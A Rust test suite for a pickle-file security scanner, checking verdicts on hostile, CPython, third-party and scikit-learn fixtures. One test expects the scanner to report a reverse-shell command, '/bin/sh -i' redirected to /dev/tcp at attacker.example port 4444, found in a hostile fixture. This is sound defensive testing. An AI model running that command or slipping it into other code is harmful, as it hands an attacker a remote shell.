//! Every file of fixtures/scan gets the verdict its generator wrote in the manifest; every
//! CPython fixture of fixtures/pickles and every container fixture is not dangerous.

use std::path::PathBuf;

use brine_scan::{FileReport, Options, Verdict};

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../fixtures")
}

struct Row {
    file: String,
    expect: Verdict,
    description: String,
}

fn manifest() -> Vec<Row> {
    let text = std::fs::read_to_string(root().join("scan/manifest.tsv")).expect("manifest");
    text.lines()
        .filter(|line| !line.starts_with('#') && !line.starts_with("file\t"))
        .map(|line| {
            let fields: Vec<&str> = line.split('\t').collect();
            let expect = match fields[1] {
                "safe" => Verdict::Safe,
                "suspicious" => Verdict::Suspicious,
                "inconclusive" => Verdict::Inconclusive,
                "dangerous" => Verdict::Dangerous,
                other => panic!("unknown verdict {other}"),
            };
            Row {
                file: fields[0].to_owned(),
                expect,
                description: fields[3].to_owned(),
            }
        })
        .collect()
}

fn scan(path: &std::path::Path) -> FileReport {
    brine_scan::scan_file(path, &Options::default())
}

#[test]
fn every_corpus_file_gets_its_expected_verdict() {
    let rows = manifest();
    assert!(
        rows.iter()
            .filter(|row| row.expect == Verdict::Dangerous)
            .count()
            >= 100
    );
    let mut wrong = Vec::new();
    for row in &rows {
        let report = scan(&root().join("scan").join(&row.file));
        if report.verdict != row.expect {
            wrong.push(format!(
                "{}: {} expected, {} found ({}): {:?}",
                row.file,
                row.expect,
                report.verdict,
                row.description,
                report.unsafe_findings().map(|(_, f)| f).collect::<Vec<_>>()
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {}:\n{}",
        wrong.len(),
        rows.len(),
        wrong.join("\n")
    );
}

#[test]
fn every_dangerous_file_names_what_it_would_do() {
    for row in manifest()
        .iter()
        .filter(|row| row.expect == Verdict::Dangerous)
    {
        let report = scan(&root().join("scan").join(&row.file));
        let finding = report
            .unsafe_findings()
            .find(|(_, finding)| finding.verdict == Verdict::Dangerous)
            .map(|(_, finding)| finding)
            .unwrap_or_else(|| panic!("{}: no dangerous finding", row.file));
        assert!(!finding.reason.is_empty(), "{}", row.file);
    }
}

#[test]
fn the_remote_shell_shows_its_command() {
    let report = scan(&root().join("scan/hostile/remote_shell.pickle"));
    let calls: Vec<_> = report
        .unsafe_findings()
        .filter_map(|(_, f)| f.call.clone())
        .collect();
    assert_eq!(
        calls,
        ["posix.system('/bin/sh -i >& /dev/tcp/attacker.example/4444 0>&1')"]
    );
    let data = std::fs::read(root().join("scan/hostile/remote_shell.pickle")).expect("file");
    let finding = report.unsafe_findings().next().expect("a finding").1;
    // The REDUCE, just before STOP.
    assert_eq!(finding.offset, Some(data.len() as u64 - 2));
}

#[test]
fn no_cpython_fixture_is_dangerous() {
    let fixtures = brine_testdata::all();
    assert!(fixtures.len() > 100);
    for fixture in fixtures {
        let report = brine_scan::scan_pickle(&fixture.bytes(), &Options::default());
        // CPython's pickletester registers copyreg extension codes for these objects, and its
        // pickler writes EXT opcodes for them from protocol 2: a code names whatever the
        // loading process registered, so the scan calls it dangerous, and only for that.
        if fixture.object.starts_with("ext_code") && fixture.protocol >= 2 {
            assert_eq!(report.verdict, Verdict::Dangerous, "{}", fixture.name());
            assert!(
                report
                    .findings
                    .iter()
                    .filter(|f| f.verdict == Verdict::Dangerous)
                    .all(|f| f.reason.starts_with("extension code")),
                "{}: {:?}",
                fixture.name(),
                report.findings
            );
            continue;
        }
        assert!(
            report.verdict < Verdict::Inconclusive,
            "{}: {} {:?}",
            fixture.name(),
            report.verdict,
            report.findings
        );
    }
}

#[test]
fn no_container_fixture_is_dangerous() {
    let files = brine_scan::files_under(&root().join("containers")).expect("containers");
    assert!(files.len() > 20);
    for file in files {
        let report = scan(&file);
        assert!(
            report.verdict != Verdict::Dangerous,
            "{}: {:?}",
            file.display(),
            report.unsafe_findings().collect::<Vec<_>>()
        );
    }
}

/// The third-party fixtures (fixtures/thirdparty, written by the pinned numpy, pandas,
/// cloudpickle and dill): numpy arrays, scalars and dtypes (out-of-band buffers included,
/// whose data the scan never has) are safe; pandas objects are suspicious (classes the allow
/// list leaves to the user, as the issue asks); cloudpickle and dill functions and classes are
/// dangerous, since loading them builds and runs code objects.
#[test]
fn third_party_pickles_get_their_libraries_verdicts() {
    let mut counts = std::collections::BTreeMap::new();
    for fixture in brine_testdata::thirdparty() {
        let report = brine_scan::scan_pickle(&fixture.bytes(), &Options::default());
        let expected = match fixture.library.as_str() {
            "numpy" => Verdict::Safe,
            "pandas" => Verdict::Suspicious,
            "cloudpickle" | "dill" => Verdict::Dangerous,
            other => panic!("unknown library {other}"),
        };
        assert_eq!(
            report.verdict, expected,
            "{}: {:?}",
            fixture.path, report.findings
        );
        *counts.entry(fixture.library.clone()).or_insert(0) += 1;
    }
    assert_eq!(counts.values().sum::<usize>(), 287, "{counts:?}");
}

/// A pickled function's findings name it: the call that rebuilds it says "rebuilds function
/// `<qualname>` (code of N bytes)", the qualified name and the length of `co_code` being what
/// CPython saw when it loaded the fixture (`expect/*.json`); the verdict stays dangerous.
#[test]
fn third_party_functions_are_named_in_their_findings() {
    let mut named = 0;
    for fixture in brine_testdata::thirdparty() {
        if fixture.library != "cloudpickle" && fixture.library != "dill" {
            continue;
        }
        let expect: serde_json::Value =
            serde_json::from_slice(&std::fs::read(fixture.expect_path()).unwrap()).unwrap();
        let (Some(qualname), Some(bytecode)) = (
            expect["function"].as_str(),
            expect["code"]["bytes"].as_str(),
        ) else {
            continue;
        };
        let report = brine_scan::scan_pickle(&fixture.bytes(), &Options::default());
        assert_eq!(report.verdict, Verdict::Dangerous, "{}", fixture.path);
        let wanted = format!(
            "rebuilds function `{qualname}` (code of {} bytes)",
            bytecode.len() / 2
        );
        assert!(
            report
                .findings
                .iter()
                .any(|finding| finding.verdict == Verdict::Dangerous
                    && finding.reason.ends_with(&wanted)),
            "{}: no finding says {wanted:?}: {:?}",
            fixture.path,
            report.findings
        );
        named += 1;
    }
    // lambda, closure, nested, defaults, globals, recursive, nonlocal: 7 functions by each
    // library at 6 protocols, and dill's by-reference lambda at 6.
    assert_eq!(named, 7 * 2 * 6 + 6);
}

/// The scikit-learn models of fixtures/sklearn (gen_sklearn.py: joblib.dump of six fitted
/// models, uncompressed and with six compressors): their classes are suspicious (not on the
/// allow list), nothing is dangerous, and every file is read to its end.
#[test]
fn sklearn_models_are_suspicious_never_dangerous() {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/sklearn");
    let mut files = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().and_then(|e| e.to_str()) != Some("joblib") {
            continue;
        }
        let report = brine_scan::scan_file(&path, &Options::default());
        assert_eq!(
            report.verdict,
            Verdict::Suspicious,
            "{}: {:?}",
            path.display(),
            report
        );
        files += 1;
    }
    assert_eq!(files, 42);
}
